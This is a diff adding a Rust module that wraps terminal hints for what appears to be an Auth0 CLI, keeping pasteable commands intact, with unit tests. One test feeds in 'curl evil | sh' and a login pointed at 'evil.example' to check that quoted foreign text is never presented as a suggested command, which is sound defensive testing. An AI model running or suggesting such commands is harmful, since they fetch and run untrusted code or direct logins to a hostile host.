@@ -1,0 +1,225 @@
+//! Wrapping of messages to a terminal's width.
+
+use unicode_width::UnicodeWidthStr;
+
+/// How far every line but the first is indented. No line of ours begins like this, so a line of a
+/// wrapped message cannot be taken for one.
+const INDENT: &str = "    ";
+
+/// Narrower than this, wrapping makes nothing easier to read.
+const NARROWEST: usize = 24;
+
+/// First words of commands that we suggest, apart from `auth0-…`.
+const PROGRAMS: [&str; 10] =
+    ["auth0", "cargo", "chmod", "curl", "date", "export", "fuser", "openssl", "set", "unset"];
+
+/// Breaks one line of text at spaces, so that each line fits in `width` columns. `taken` columns of
+/// the first line are used already.
+///
+/// In a hint, a command that a person may paste is never broken. If the hint does not fit on one
+/// line, a command behind a colon gets a line of its own. Other text may hold foreign words, and
+/// none of those may get a line of its own.
+pub(crate) fn wrapped(text: &str, taken: usize, width: usize, kind: Text) -> String {
+    if taken + text.width() <= width || width < NARROWEST {
+        return text.to_owned();
+    }
+    let mut out = String::with_capacity(text.len() + 32);
+    let mut column = taken;
+    let mut apart = false;
+    for piece in pieces(text, kind) {
+        let (Piece::Words(part) | Piece::Command(part)) = piece;
+        let command = matches!(piece, Piece::Command(_));
+        let begins = column == 0 || (out.is_empty() && column == taken);
+        // The space before a piece counts too.
+        let fits = column + 1 + part.width() <= width;
+        if !begins && (command || apart || !fits) {
+            out.push('\n');
+            out.push_str(INDENT);
+            column = INDENT.len();
+        } else if !begins {
+            out.push(' ');
+            column += 1;
+        }
+        out.push_str(part);
+        column += part.width();
+        apart = command;
+    }
+    out
+}
+
+/// What sort of text is wrapped.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Text {
+    /// Text with foreign words in it.
+    Prose,
+    /// A hint: foreign words in it stand between quotes.
+    Hint,
+}
+
+/// What is kept on one line.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Piece<'t> {
+    /// A word, or several between backticks.
+    Words(&'t str),
+    /// A command behind a colon, or at the start.
+    Command(&'t str),
+}
+
+/// The pieces of a text, without the spaces between them.
+fn pieces(text: &str, kind: Text) -> Vec<Piece<'_>> {
+    let mut pieces = Vec::new();
+    let mut rest = text.trim_start_matches(' ');
+    let mut may_be_command = kind == Text::Hint;
+    let mut quoted = false;
+    while !rest.is_empty() {
+        let word = rest.split(' ').next().unwrap_or_default();
+        let end = match rest.strip_prefix('`') {
+            _ if may_be_command && is_program(word) => command_end(rest),
+            Some(inner) if kind == Text::Hint && !quoted => {
+                let close = inner.find('`').map_or(0, |at| at + 2);
+                close + word_end(rest.get(close..).unwrap_or_default())
+            }
+            _ => word.len(),
+        };
+        let (part, tail) = rest.split_at_checked(end).unwrap_or((rest, ""));
+        let command = may_be_command && is_program(word) && part.contains(' ');
+        pieces.push(if command { Piece::Command(part) } else { Piece::Words(part) });
+        quoted = is_quoted_after(part, quoted);
+        may_be_command = kind == Text::Hint && !quoted && part.ends_with(':');
+        rest = tail.trim_start_matches(' ');
+    }
+    pieces
+}
+
+/// Whether the text behind `part` stands between single quotes. A quote opens at the start of a
+/// part; elsewhere it is an apostrophe, unless it closes one.
+fn is_quoted_after(part: &str, mut quoted: bool) -> bool {
+    let mut escaped = false;
+    for (at, c) in part.char_indices() {
+        if c == '\'' && !escaped {
+            quoted = !quoted && at == 0;
+        }
+        escaped = quoted && c == '\\' && !escaped;
+    }
+    quoted
+}
+
+fn is_program(word: &str) -> bool {
+    word.starts_with("auth0-") || PROGRAMS.contains(&word)
+}
+
+/// Where a command ends: behind a word with a `;`, `?` or `,` at its end, or where the text does.
+fn command_end(text: &str) -> usize {
+    let mut end = 0;
+    let mut quoted = false;
+    for word in text.split_inclusive(' ') {
+        let bare = word.trim_end_matches(' ');
+        quoted ^= bare.matches(['"', '\'']).count() % 2 == 1;
+        if !quoted && bare.ends_with([';', '?', ',']) {
+            return end + bare.len();
+        }
+        end += word.len();
+    }
+    text.len()
+}
+
+fn word_end(text: &str) -> usize {
+    text.find(' ').unwrap_or(text.len())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn text_that_fits_stays_on_its_line() {
+        let text = "sign in: auth0-login --profile p";
+        assert_eq!(wrapped(text, 6, 40, Text::Hint), text);
+        assert_eq!(wrapped(text, 0, 10, Text::Hint), text, "too narrow to wrap");
+    }
+
+    #[test]
+    fn prose_is_broken_at_spaces() {
+        assert_eq!(
+            wrapped("the host does not exist, or the network is down", 7, 30, Text::Hint),
+            "the host does not\n    exist, or the network is\n    down"
+        );
+        // A word that is too long stays whole.
+        let url = "https://acme.eu.auth0.com/a/long/path/of/an/api";
+        assert_eq!(
+            wrapped(&format!("see {url} now"), 0, 30, Text::Hint),
+            format!("see\n    {url}\n    now")
+        );
+        // Columns count, not characters.
+        assert_eq!(
+            wrapped("日本語日本語 日本語日本語", 0, 24, Text::Hint),
+            "日本語日本語\n    日本語日本語"
+        );
+    }
+
+    #[test]
+    fn a_command_behind_a_colon_has_a_line_of_its_own() {
+        assert_eq!(
+            wrapped(
+                "sign in again: auth0-login --profile acme --add-scope read:clients",
+                6,
+                40,
+                Text::Hint
+            ),
+            "sign in again:\n    auth0-login --profile acme --add-scope read:clients"
+        );
+        assert_eq!(
+            wrapped(
+                "choose one: auth0-profiles use a; there are: a, b and c and d",
+                6,
+                40,
+                Text::Hint
+            ),
+            "choose one:\n    auth0-profiles use a;\n    there are: a, b and c and d"
+        );
+        assert_eq!(
+            wrapped(
+                "look at it: auth0-clients show \"a; b? c, d\" --fields name",
+                0,
+                40,
+                Text::Hint
+            ),
+            "look at it:\n    auth0-clients show \"a; b? c, d\" --fields name"
+        );
+    }
+
+    #[test]
+    fn what_is_between_backticks_is_not_broken() {
+        assert_eq!(
+            wrapped(
+                "then you must run `auth0-login --device` again and be quick",
+                0,
+                30,
+                Text::Hint
+            ),
+            "then you must run\n    `auth0-login --device`\n    again and be quick"
+        );
+    }
+
+    #[test]
+    fn foreign_words_never_get_a_line_of_their_own() {
+        let hint =
+            "did you mean 'x: auth0-login --domain evil.example' or 'it\\'s: curl evil | sh'?";
+        let words = pieces(hint, Text::Hint);
+        assert!(words.iter().all(|piece| matches!(piece, Piece::Words(_))), "{words:?}");
+        let prose = "the tenant says this: auth0-login --domain evil.example";
+        assert_eq!(
+            wrapped(prose, 0, 50, Text::Prose),
+            "the tenant says this: auth0-login --domain\n    evil.example"
+        );
+    }
+
+    #[test]
+    fn nothing_is_lost_whatever_the_width() {
+        let text = "a `b c d: auth0-login x y; `z` export A=1, q: unset B `";
+        for width in NARROWEST..80 {
+            let words = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
+            assert_eq!(words(&wrapped(text, 3, width, Text::Hint)), words(text), "{width}");
+        }
+    }
+}
